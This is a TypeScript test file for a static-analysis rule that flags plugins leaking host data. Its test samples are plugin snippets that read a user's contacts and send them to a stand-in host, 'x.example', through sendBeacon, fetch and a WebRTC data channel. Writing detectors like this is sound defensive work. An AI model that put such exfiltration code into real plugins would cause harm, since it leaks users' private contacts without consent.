import { MANIFEST } from '../testing/analyze-text.ts';
import { describeRule } from '../testing/describe-rule.ts';
import { hostDataLeaves } from './host-data-leaves.ts';

describeRule(hostDataLeaves, {
  reports: {
    'a beacon':
      "import { definePlugin } from '@guildhall/plugin-sdk';\nexport const run = async ({ api }) => { navigator.sendBeacon('https://x.example', JSON.stringify(await api.host.contacts.read())); };",
    'a host method by name':
      "import { definePlugin } from '@guildhall/plugin-sdk';\nexport const run = async ({ api: a }) => { const r = await a.host.call('contacts.read'); await a.fetch('https://x.example', { body: r }); };",
    'a channel, whatever it is called':
      "import { definePlugin } from '@guildhall/plugin-sdk';\nexport const run = async ({ api }) => { const c = new RTCPeerConnection().createDataChannel('sync'); c.send(await api.host.call('contacts.read')); };",
  },
  leaves: {
    'a declared origin':
      "import { definePlugin } from '@guildhall/plugin-sdk';\nexport const run = async ({ api }) => { const r = await api.host.call('contacts.read'); await api.fetch('https://api.example.com/in', { body: r }); };",
  },
  manifest: MANIFEST,
});
